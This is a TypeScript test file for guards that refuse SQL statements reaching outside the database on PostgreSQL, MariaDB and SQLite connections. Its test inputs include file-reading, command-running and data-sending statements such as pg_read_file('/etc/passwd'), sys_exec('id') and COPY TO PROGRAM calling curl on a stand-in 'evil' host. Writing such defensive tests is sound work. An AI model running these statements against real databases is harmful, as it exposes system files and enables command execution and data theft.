import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { checkMysqlStatement } from './mysql-guard.js';
import { checkPostgresStatement } from './postgres-guard.js';
import { checkSqliteStatement } from './sqlite-guard.js';

/** A confirmed write on a read-write connection may change the database, never reach past it. */
describe('statements that reach outside the database', () => {
  const write = { allowWrite: true };

  it('are refused on a read-write PostgreSQL connection, while an ordinary write may run', async () => {
    for (const sql of [
      "SELECT pg_read_file('/etc/passwd')",
      "INSERT INTO notes (body) SELECT pg_catalog.pg_read_file('/etc/hostname')",
      "SELECT * FROM pg_ls_dir('/')",
      "SELECT lo_export(1, '/tmp/out')",
      "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
      "COPY notes TO PROGRAM 'curl http://evil'",
      "COPY notes FROM '/etc/passwd'",
    ]) {
      const verdict = await checkPostgresStatement(sql, write);
      expect(verdict.refusal, sql).toMatch(/reaches outside the database/);
    }
    expect((await checkPostgresStatement("UPDATE notes SET body = 'x' WHERE id = 1", write)).refusal).toBeNull();
    expect((await checkPostgresStatement("SELECT set_config('search_path', 'public', true)", write)).refusal).toBeNull();
  });

  it('are refused on a read-write MariaDB connection, while an ordinary write may run', () => {
    for (const sql of [
      "SELECT body FROM notes INTO OUTFILE '/tmp/out'",
      "INSERT INTO notes (body) VALUES (LOAD_FILE('/etc/passwd'))",
      "LOAD DATA INFILE '/etc/passwd' INTO TABLE notes",
      "SELECT sys_exec('id')",
    ]) {
      expect(checkMysqlStatement(sql, write).refusal, sql).toMatch(/reaches outside the database/);
    }
    expect(checkMysqlStatement("UPDATE notes SET body = 'load_file(x)' WHERE id = 1", write).refusal).toBeNull();
  });

  it('are refused on a read-write SQLite connection, while an ordinary write may run', () => {
    const db = new Database(':memory:');
    try {
      db.exec('CREATE TABLE notes (id integer primary key, body text)');
      for (const sql of ["ATTACH DATABASE '/tmp/other.db' AS other", "VACUUM INTO '/tmp/copy.db'"]) {
        expect(checkSqliteStatement(db, sql, write).refusal, sql).toMatch(/reaches outside the database/);
      }
      expect(checkSqliteStatement(db, "UPDATE notes SET body = 'x' WHERE id = 1", write).refusal).toBeNull();
    } finally {
      db.close();
    }
  });
});
